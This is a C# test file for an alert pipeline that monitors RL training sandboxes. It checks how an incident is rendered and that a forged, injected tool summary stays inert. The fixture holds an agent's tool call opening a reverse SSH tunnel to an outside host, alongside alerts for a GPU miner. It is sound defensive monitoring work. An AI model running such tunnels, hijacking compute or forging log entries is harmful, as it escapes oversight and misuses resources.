using System.Text.Json;
using AlertPipeline.Cli.Commands;
using AlertPipeline.Cli.Replay;
using AlertPipeline.Core.Detect;
using AlertPipeline.Core.Respond;
using AlertPipeline.Core.Respond.Incidents;
using static AlertPipeline.Cli.Tests.Commands.HandMadeIncidents;

namespace AlertPipeline.Cli.Tests.Commands;

/// <summary>The incident story (text) and the incident JSON line, as <c>incidents show</c> and <c>replay</c> print them.</summary>
public sealed class IncidentRenderingTests
{
    private static async Task<string> StoryAsync(Incident incident)
    {
        var writer = new StringWriter();
        await IncidentStory.WriteAsync(writer, incident);
        return writer.ToString();
    }

    [Fact]
    public async Task The_story_has_the_header_then_one_line_per_entry_in_time_order()
    {
        var lines = (await StoryAsync(Rome())).Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);

        Assert.Equal($"Incident {IncidentIds.For("rl-env-7731", 1)}  sandbox rl-env-7731  status open", lines[0]);
        Assert.Contains("  level         critical (combination: resource hijacking + protocol tunneling)", lines);
        Assert.Contains("  techniques    T1496, T1572", lines);
        Assert.Contains("  runs          ppo-0110", lines);
        Assert.Contains("  episodes      88123", lines);
        Assert.Contains("  seen          2025-11-14T03:12:40.265Z .. 2025-11-14T03:20:01.265Z", lines);
        Assert.Contains("  alerts        2", lines);
        Assert.Contains("  commands      sent at 2025-11-14T03:20:04.265Z (alert a-miner)", lines);
        Assert.Contains("  notifications opened [high] at 2025-11-14T03:12:41.265Z; level raised to critical [critical] at 2025-11-14T03:20:01.265Z", lines);
        var timeline = lines.SkipWhile(l => l != "timeline:").Skip(1).ToList();
        Assert.Equal(
        [
            "  -- 2025-11-14 --",
            "  03:12:40.265Z  tool_call    bash call-17: ssh -R 2222:localhost:22 tunnel@203.0.113.66",
            "  03:12:41.020Z  alert        [high] SSH Reverse or Dynamic Port Forward Started",
            "  03:20:00.265Z  network      firewall deny 10.20.7.31:51514 -> 203.0.113.66:22 (5-tuple, tool call call-17)",
            "  03:20:01.265Z  alert        [critical] Miner on the GPUs",
            "  03:20:04.265Z  command      shutdown sent",
        ], timeline);
    }

    [Fact]
    public async Task A_story_across_midnight_names_each_day_and_a_status_change_says_who()
    {
        var incident = Rome(start: new DateTimeOffset(2025, 11, 14, 23, 58, 0, TimeSpan.Zero));
        incident.Status = IncidentStatus.Resolved;
        incident.StatusBy = "oncall\n@example.com";
        incident.StatusAt = new DateTimeOffset(2025, 11, 15, 1, 0, 0, TimeSpan.Zero);

        var story = await StoryAsync(incident);

        Assert.Contains("status resolved by oncall @example.com at 2025-11-15T01:00:00.000Z", story, StringComparison.Ordinal);
        Assert.Contains("  -- 2025-11-14 --", story, StringComparison.Ordinal);
        Assert.Contains("  -- 2025-11-15 --", story, StringComparison.Ordinal);
    }

    [Fact]
    public async Task An_injected_summary_stays_one_inert_line_in_the_story()
    {
        var clean = await StoryAsync(Rome());
        var forged = await StoryAsync(Rome(toolSummary: Forgery));

        // The same number of lines as the honest story: the newline, CR and U+2028 did not start new lines.
        Assert.Equal(clean.Split('\n').Length, forged.Split('\n').Length);
        Assert.DoesNotContain('\u001b', forged);
        Assert.DoesNotContain('\r', forged.Replace(Environment.NewLine, "\n", StringComparison.Ordinal));
        Assert.DoesNotContain('\u2028', forged);
        Assert.DoesNotContain('\u202E', forged);
        Assert.DoesNotContain(forged.Split('\n'), l => l.StartsWith("  03:20:05.000Z", StringComparison.Ordinal));
        var line = Assert.Single(forged.Split('\n'), l => l.Contains("echo hi", StringComparison.Ordinal));
        Assert.StartsWith("  03:12:40.265Z  tool_call    echo hi ", line, StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_json_line_has_the_documented_fields_and_an_injected_summary_stays_a_string_in_one_line()
    {
        var writer = new StringWriter();
        await ReplayCommand.WriteIncidentLinesAsync(writer, [Rome(toolSummary: Forgery), Rome("rl-env-7732")]);

        var lines = writer.ToString().Split(Environment.NewLine, StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(2, lines.Length);
        using var document = JsonDocument.Parse(lines[0]);
        var root = document.RootElement;
        Assert.Equal(
            ["incidentId", "sandboxId", "status", "level", "levelReasons", "techniques", "alertIds", "runIds", "episodeIds", "firstSeen", "lastSeen", "timeline"],
            root.EnumerateObject().Select(p => p.Name));
        Assert.Equal(IncidentIds.For("rl-env-7731", 1), root.GetProperty("incidentId").GetString());
        Assert.Equal("open", root.GetProperty("status").GetString());
        Assert.Equal("critical", root.GetProperty("level").GetString());
        Assert.Equal(["a-tunnel", "a-miner"], root.GetProperty("alertIds").EnumerateArray().Select(a => a.GetString()));
        Assert.Equal("2025-11-14T03:12:40.265Z", root.GetProperty("firstSeen").GetString());
        var timeline = root.GetProperty("timeline").EnumerateArray().ToList();
        Assert.Equal(["tool_call", "alert", "network", "alert", "command"], timeline.Select(e => e.GetProperty("kind").GetString()));
        Assert.Equal("a-tunnel", timeline[1].GetProperty("alertId").GetString());
        Assert.False(timeline[0].TryGetProperty("alertId", out _));
        var summary = timeline[0].GetProperty("summary").GetString()!;
        Assert.StartsWith("echo hi ", summary, StringComparison.Ordinal);
        Assert.Contains("{\"incidentId\":\"inc-forged\"}", summary, StringComparison.Ordinal);
        Assert.DoesNotContain('\u001b', summary);
        Assert.DoesNotContain('\n', summary);
        Assert.DoesNotContain("inc-forged\"", lines[0], StringComparison.Ordinal);
        Assert.Equal("rl-env-7732", JsonDocument.Parse(lines[1]).RootElement.GetProperty("sandboxId").GetString());
    }

    [Fact]
    public async Task Replay_gathers_the_incidents_of_its_alerts_only_in_order_of_first_evidence()
    {
        var later = Rome(sequence: 2, start: T0.AddHours(2));
        later.AlertIds = ["a-later"];
        var unrelated = Rome(sequence: 3, start: T0.AddHours(5));
        unrelated.AlertIds = ["a-old"];
        var named = Rome("rl-env-7733");
        named.AlertIds = ["a-elsewhere"];
        var store = await StoreAsync(later, Rome(), unrelated, named);
        Alert Alert(string id, string sandbox, string? incidentId = null) => new()
        {
            AlertId = id, RuleId = "r", RulePack = "default", Title = "t", Level = AlertLevel.High, SandboxId = sandbox, IncidentId = incidentId,
        };

        var incidents = await ReplayCommand.IncidentsOfAsync(store,
            [Alert("a-later", "rl-env-7731"), Alert("a-tunnel", "rl-env-7731"), Alert("x", "rl-env-9999", named.IncidentId)], CancellationToken.None);

        Assert.Equal([IncidentIds.For("rl-env-7731", 1), named.IncidentId, later.IncidentId], incidents.Select(i => i.IncidentId));
    }

    [Fact]
    public async Task Replay_table_output_prints_a_story_block_per_incident()
    {
        var writer = new StringWriter();
        await ReplayCommand.WriteIncidentStoriesAsync(writer, [Rome(), Rome("rl-env-7732")]);

        var text = writer.ToString();
        Assert.Equal(2, text.Split('\n').Count(l => l.StartsWith("Incident inc-", StringComparison.Ordinal)));
        Assert.Equal(await StoryAsync(Rome()), text.Split(Environment.NewLine + Environment.NewLine)[0].TrimStart() + Environment.NewLine);
    }
}
